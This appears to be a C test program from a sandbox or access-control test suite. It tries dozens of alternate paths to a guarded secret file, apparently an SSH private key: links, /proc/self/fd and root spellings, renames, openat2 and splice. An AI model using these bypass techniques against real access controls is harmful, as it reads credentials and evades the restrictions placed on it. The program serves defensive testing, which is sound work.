// Reaches a file by names other than its own: names HOME DIRECTORY FILE (HOME/DIRECTORY/FILE is the
// secret). Whatever is moved is moved back.
#include <linux/openat2.h>

#include "attack.h"

static char home[2048], directory[2200], path[4000], name[256];

static void Report(const char* technique, int fd) { DumpFd(technique, fd); }

static void Links(void) {
  Result("link", link(path, "hard"));
  Report("hard-link", open("hard", O_RDONLY));
  unlink("hard");
  int fd = open(path, O_PATH);
  char through[64];
  snprintf(through, sizeof through, "/proc/self/fd/%d", fd);
  Report("o-path-reopen", open(through, O_RDONLY));
  Result("linkat", linkat(AT_FDCWD, through, AT_FDCWD, "hard2", AT_SYMLINK_FOLLOW));
  Report("o-path-link", open("hard2", O_RDONLY));
  unlink("hard2");
  snprintf(through, sizeof through, "/dev/fd/%d", fd);
  Report("dev-fd-reopen", open(through, O_RDONLY));
  close(fd);
  unlink("soft");
  if (symlink(path, "soft") != 0) Say("symlink: errno %d", errno);
  Report("symlink", open("soft", O_RDONLY));
  unlink("soft");
  if (symlink(directory, "softdir") != 0) Say("symlink: errno %d", errno);
  char inside[512];
  snprintf(inside, sizeof inside, "softdir/%s", name);
  Report("symlink-directory", open(inside, O_RDONLY));
  Report("symlink-directory-dots", open("softdir/../.ssh/id_rsa", O_RDONLY));
  unlink("softdir");
}

static void Moves(void) {
  char moved[600];
  if (rename(path, "moved-file") == 0) {
    Report("rename-file", open("moved-file", O_RDONLY));
    if (rename("moved-file", path) != 0) Say("cannot move back: errno %d", errno);
  } else {
    Say("rename-file: errno %d", errno);
  }
  if (rename(directory, "moved-directory") == 0) {
    snprintf(moved, sizeof moved, "moved-directory/%s", name);
    Report("rename-directory", open(moved, O_RDONLY));
    if (rename("moved-directory", directory) != 0) Say("cannot move back: errno %d", errno);
  } else {
    Say("rename-directory: errno %d", errno);
  }
  // The parent of the directory, inside its own parent.
  char sibling[2100];
  snprintf(sibling, sizeof sibling, "%s-renamed", home);
  if (rename(home, sibling) == 0) {
    snprintf(moved, sizeof moved, ".ssh/%s", name);
    int at = open(sibling, O_PATH | O_DIRECTORY);
    Report("rename-home", openat(at, moved, O_RDONLY));
    close(at);
    if (rename(sibling, home) != 0) Say("cannot move back: errno %d", errno);
  } else {
    Say("rename-home: errno %d", errno);
  }
  char target[4100];
  snprintf(target, sizeof target, "%s/innocent", directory);
  close(open("mine", O_WRONLY | O_CREAT, 0644));
  int exchanged = (int)syscall(SYS_renameat2, AT_FDCWD, "mine", AT_FDCWD, path, 2);
  Result("exchange", exchanged);
  if (exchanged == 0) {
    Report("rename-exchange", open("mine", O_RDONLY));
    syscall(SYS_renameat2, AT_FDCWD, "mine", AT_FDCWD, path, 2);
  }
  unlink("mine");
}

static void Directories(void) {
  int at = open(home, O_RDONLY | O_DIRECTORY);
  if (at < 0) at = open(home, O_PATH | O_DIRECTORY);
  char inside[512];
  snprintf(inside, sizeof inside, ".ssh/%s", name);
  Report("openat-home", openat(at, inside, O_RDONLY));
  struct open_how how = {.flags = O_RDONLY, .resolve = RESOLVE_BENEATH};
  Report("openat2-beneath", (int)syscall(SYS_openat2, at, inside, &how, sizeof how));
  how.resolve = RESOLVE_IN_ROOT;
  char rooted[520];
  snprintf(rooted, sizeof rooted, "/%s", inside);
  Report("openat2-in-root", (int)syscall(SYS_openat2, at, rooted, &how, sizeof how));
  close(at);
  at = open(directory, O_PATH | O_DIRECTORY);
  Report("openat-o-path", openat(at, name, O_RDONLY));
  char here[512];
  if (!getcwd(here, sizeof here)) return;
  if (fchdir(at) == 0) {
    Report("fchdir-o-path", open(name, O_RDONLY));
    snprintf(inside, sizeof inside, "/proc/self/cwd/%s", name);
    Report("proc-self-cwd", open(inside, O_RDONLY));
  } else {
    Say("fchdir: errno %d", errno);
  }
  close(at);
  if (chdir(here) != 0) Say("chdir back: errno %d", errno);
  if (chdir(directory) == 0) {
    Report("chdir", open(name, O_RDONLY));
    if (chdir(here) != 0) Say("chdir back: errno %d", errno);
  }
}

static void Spellings(void) {
  static char text[8192];
  const char* roots[] = {"/proc/self/root", "/proc/thread-self/root", "//", "/./", "/proc/../"};
  const char* names[] = {"proc-root", "thread-root", "slashes", "dot", "dotdot"};
  for (int i = 0; i < 5; ++i) {
    snprintf(text, sizeof text, "%s%s", roots[i], path);
    Report(names[i], open(text, O_RDONLY));
  }
  snprintf(text, sizeof text, "/proc/%d/task/%d/root%s", getpid(), getpid(), path);
  Report("task-root", open(text, O_RDONLY));
  snprintf(text, sizeof text, "%s//%s", directory, name);
  Report("double-slash", open(text, O_RDONLY));
  snprintf(text, sizeof text, "%s/./../.ssh/.//%s", directory, name);
  Report("dots", open(text, O_RDONLY));
  snprintf(text, sizeof text, "%s/%s/", directory, name);
  int fd = open(text, O_RDONLY);
  Say("trailing-slash: %s", fd < 0 ? "refused" : "opened");
  if (fd >= 0) close(fd);
  size_t length = (size_t)snprintf(text, sizeof text, "%s", directory);
  while (length + strlen(name) + 4 < 4095) {
    text[length++] = '/';
    text[length++] = '.';
  }
  snprintf(text + length, sizeof text - length, "/%s", name);
  Report("4k-path", open(text, O_RDONLY));
  char beginning[4100];
  int level = 0;
  beginning[0] = 0;
  while (level++ < 40) strcat(beginning, "../");
  snprintf(text, sizeof text, "%s%s", beginning, path + 1);
  Report("relative", open(text, O_RDONLY));
}

static void Executions(void) {
  // Content read by other calls than open-and-read of this path.
  int fd = open(path, O_RDWR);
  Report("read-write", fd);
  fd = open(path, O_RDONLY | O_NOFOLLOW | O_NOATIME | O_CLOEXEC | O_DIRECT * 0);
  Report("flags", fd);
  int pipes[2];
  fd = open(path, O_RDONLY | O_ASYNC * 0 | O_NOCTTY | O_NONBLOCK);
  if (fd >= 0 && pipe(pipes) == 0) {
    loff_t offset = 0;
    if (splice(fd, &offset, pipes[1], NULL, 4096, 0) > 0) Report("splice", dup(pipes[0]));
    close(pipes[0]);
    close(pipes[1]);
    close(fd);
  } else {
    Say("splice: errno %d", errno);
  }
}

int main(int argc, char** argv) {
  if (argc != 4) return 2;
  snprintf(home, sizeof home, "%s", argv[1]);
  snprintf(directory, sizeof directory, "%s/%s", argv[1], argv[2]);
  snprintf(name, sizeof name, "%s", argv[3]);
  snprintf(path, sizeof path, "%s/%s", directory, name);
  Links();
  Moves();
  Directories();
  Spellings();
  Executions();
  Done();
  return 0;
}
